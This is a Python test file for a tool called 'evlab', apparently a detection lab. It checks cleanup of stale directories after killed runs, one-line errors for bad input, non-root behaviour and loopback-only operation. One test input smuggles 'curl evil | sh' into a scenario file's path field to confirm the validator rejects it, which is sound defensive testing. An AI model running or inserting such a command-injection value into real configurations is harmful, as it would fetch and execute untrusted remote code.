"""Hardening: a run killed with SIGKILL is swept up by the next; bad scenario files and non-root
users get one clear line, never a traceback; the suite needs nothing beyond loopback."""

import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

from probes.boundary.netns import RUN_DIR
from probes.owned_tmp import OWNER_FILE, make_owned_dir, sweep_stale
from tests.leftovers import owned_dirs, prog_ids_held, still_loaded, wait_gone
from tests.support import evlab_in

ROOT = Path(__file__).resolve().parent.parent
EVLAB = str(ROOT / ".venv" / "bin" / "evlab")
root_only = pytest.mark.root(reason="needs root")


def test_owned_dirs_of_a_dead_owner_are_swept(tmp_path):
    mine = make_owned_dir("evlab-session-")
    dead = tmp_path / "evlab-session-dead"
    dead.mkdir()
    (dead / OWNER_FILE).write_text("999999 12345.0\n")  # no such process
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)",
                                str(dead)])  # a leftover whose command line names the dir
    try:
        cleaned = sweep_stale(tmp_path)
        assert not dead.exists() and mine.exists()
        assert any(f"killed pid {sleeper.pid}" in line for line in cleaned)
        assert sleeper.wait(timeout=5) == -signal.SIGKILL
    finally:
        shutil.rmtree(mine)


@pytest.mark.slow
@pytest.mark.live
@root_only
def test_a_run_killed_with_sigkill_is_cleaned_up_by_the_next(tmp_path, built_clients):
    killed = subprocess.Popen([EVLAB, "run", "--all", "--headless"], cwd=tmp_path,
                              stderr=subprocess.PIPE, text=True)
    for line in killed.stderr:
        if line.startswith("[2/8]"):
            break
    left, programs = owned_dirs(killed.pid), prog_ids_held(killed.pid)
    killed.send_signal(signal.SIGKILL)
    killed.wait()
    # its lab networks as the kill left them (one seen a moment before may have been removed
    # by the run itself, at its scenario's end, before the signal landed)
    networks = list(RUN_DIR.glob(f"evlab-{killed.pid}-*"))
    assert left and all(d.exists() for d in left)  # nothing could run its cleanup
    nxt = evlab_in("run", "baseline", "--headless", cwd=tmp_path)   # the next run, in this process
    assert nxt.returncode == 0, nxt.stderr
    for path in left:
        assert f"removed stale {path}" in nxt.stderr
        assert not path.exists()
    assert wait_gone(left) == []
    # and the lab networks it left: /run/netns is the machine's, so an evlab of another test
    # running beside this one may be the one that sweeps them; either way they are gone
    assert [p for p in networks if p.exists()] == []
    assert list(RUN_DIR.glob(f"evlab-{killed.pid}-*")) == []
    # BPF programs die with their process's descriptors: nothing pinned, nothing left attached
    assert programs and still_loaded(programs) == set()


@pytest.mark.parametrize("text, message", [
    ('[client]\nbehaviour = "baseline"\ntimeout_s = "soon"\n', "client.timeout_s: expected a"),
    ('[expect]\nfail = []\n', "client: expected a [client] table"),
    ('[client]\npath = "client; curl evil | sh"\n', "client.path: expected a file path"),
    ('[client]\nbehaviour = "baseline"\nargs = "{host} {port}"\n', "client.args: expected a list"),
])
def test_bad_scenario_files_get_one_line_and_change_nothing(tmp_path, text, message):
    bad = tmp_path / "bad.toml"
    bad.write_text(text)
    out = evlab_in("run", bad, "--headless", "--json", tmp_path / "out.json", cwd=tmp_path)
    assert out.returncode == 2
    assert out.stderr.count("\n") == 1 and message in out.stderr and str(bad) in out.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.toml"]


def test_bad_flags_get_one_clear_line(tmp_path):
    for argv in (["run", "--collector", "ebpf", "--headless"], ["report", "x.tar.gz",
                                                                  "--format", "pdf"],
                 ["replay", str(tmp_path / "missing.tar.gz"), "--headless"],
                 ["run", "nonesuch", "--headless"]):
        out = subprocess.run([EVLAB, *argv], capture_output=True, text=True, cwd=tmp_path,
                             timeout=60)
        assert out.returncode == 2, argv
        assert "Traceback" not in out.stderr and out.stderr.strip(), argv


NON_ROOT = """
import importlib, json, os, pkgutil, sys, io, contextlib
# The venv's interpreter lives under /root (mode 0700 here): import everything as root first,
# then become nobody, as an unprivileged user with a readable install would be.
for package in ("fixture", "probes", "sessions"):   # every module: a command imports its own
    module = importlib.import_module(package)
    for info in pkgutil.walk_packages(module.__path__, f"{package}."):
        importlib.import_module(info.name)
import bcc, argparse, locale, tarfile, gzip, zlib, xml.etree.ElementTree, encodings.idna
from sessions.cli import dispatch as cli
os.setgroups([]); os.setgid(65534); os.setuid(65534)
results = {}
for name, argv in json.loads(sys.argv[1]).items():
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        try:
            code = cli.main(argv)
        except SystemExit as e:
            code = e.code
        except BaseException as e:
            code = f"uncaught {type(e).__name__}: {e}"
    results[name] = [code, err.getvalue()]
print(json.dumps(results))
"""


@pytest.mark.live
@root_only
def test_non_root_gets_clear_messages_never_a_traceback(tmp_path, built_clients):
    archive = ROOT / "tests" / "data" / "session.tar.gz"
    commands = {
        "doctor": ["doctor"],
        "list": ["list"],
        "report": ["report", str(archive), "--format", "junit"],
        "replay": ["replay", str(archive), "--headless"],
        "run": ["run", "baseline", "--headless"],
    }
    os.chmod(tmp_path, 0o777)
    out = subprocess.run([sys.executable, "-c", NON_ROOT, json.dumps(commands)], cwd=tmp_path,
                         capture_output=True, text=True, timeout=120,
                         env={**os.environ, "TMPDIR": str(tmp_path)})
    assert out.returncode == 0, out.stderr
    results = json.loads(out.stdout)
    for name, (code, err) in results.items():
        assert isinstance(code, int), f"{name}: {code}"
        assert "Traceback" not in err, f"{name}: {err}"
    assert results["doctor"][0] == 0 and results["list"][0] == 0
    assert results["report"][0] == 0 and results["replay"][0] == 0
    code, err = results["run"]
    # Degraded, said in one line: the strace fallback is chosen, and here the fixture's servers
    # cannot start because this machine's interpreter lives under /root (0700).
    assert code in (2, 3), err
    if code == 2:
        assert err.count("\n") == 1 and "cannot start fixture.backup.receiver" in err


@pytest.mark.slow
@pytest.mark.live
@root_only
@pytest.mark.skipif(shutil.which("unshare") is None, reason="util-linux unshare missing")
def test_the_suite_needs_nothing_beyond_loopback(tmp_path, built_clients):
    """In a fresh network namespace with only lo up, every scenario is still detected."""
    script = (f"ip link set lo up && {EVLAB} run --all --headless --json {tmp_path}/netns.json"
              " && ip -o link show | wc -l")
    out = subprocess.run(["unshare", "--net", "sh", "-c", script], capture_output=True,
                         text=True, cwd=tmp_path, timeout=240)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "1"  # the namespace had one interface: lo
    doc = json.loads((tmp_path / "netns.json").read_text())
    assert doc["summary"]["detected"] == 8 and doc["collector"] == "bcc"
    assert doc["packets"] == "on"


@root_only
def test_another_users_stale_dir_is_left_to_root_and_never_said_removed():
    """An unprivileged evlab sharing /tmp with root's runs: it can remove neither their stale
    directories nor what runs from them, and its record says only what it did (it said
    "removed stale" of a directory it could not remove)."""
    shared = Path(tempfile.mkdtemp())   # pytest's tmp_path is under a folder only root enters
    try:
        shared.chmod(0o755)
        dead = shared / "evlab-strace-dead"
        dead.mkdir()
        (dead / OWNER_FILE).write_text("999999 12345.0\n")  # no such process
        swept = subprocess.run(
            [sys.executable, "-c", "import os, sys, json; from probes.owned_tmp import "
             "sweep_stale; os.setgroups([]); os.setgid(65534); os.setuid(65534); "
             "print(json.dumps(sweep_stale(sys.argv[1])))", str(shared)],
            capture_output=True, text=True, cwd=ROOT, timeout=60)
        assert swept.returncode == 0, swept.stderr
        assert json.loads(swept.stdout) == [] and dead.exists()
        assert sweep_stale(shared) == [f"removed stale {dead}"] and not dead.exists()   # root's
    finally:
        shutil.rmtree(shared)


def test_a_fresh_dir_without_an_owner_record_is_left_alone(tmp_path):
    """It may be a concurrent run's, created a moment ago: never swept from under it."""
    young = tmp_path / "evlab-archive-young"
    young.mkdir()
    assert sweep_stale(tmp_path) == [] and young.exists()
    old = tmp_path / "evlab-archive-old"
    old.mkdir()
    os.utime(old, (time.time() - 7200, time.time() - 7200))
    assert sweep_stale(tmp_path) == [f"removed stale {old}"] and not old.exists()


def test_a_dir_whose_maker_died_before_its_owner_record_is_swept(tmp_path):
    """Killed between mkdtemp and writing the record: the pid in its name says it is stale."""
    orphan = tmp_path / f"evlab-client-{_exited_pid()}-abcd1234"
    orphan.mkdir()
    ours = tmp_path / f"evlab-client-{os.getpid()}-abcd1234"   # being made by a live process
    ours.mkdir()
    assert sweep_stale(tmp_path) == [f"removed stale {orphan}"]
    assert not orphan.exists() and ours.exists()
    made = make_owned_dir("evlab-client-")
    try:
        assert made.name.startswith(f"evlab-client-{os.getpid()}-")
    finally:
        shutil.rmtree(made)


def _exited_pid() -> int:
    child = subprocess.Popen(["true"])
    child.wait()
    return child.pid
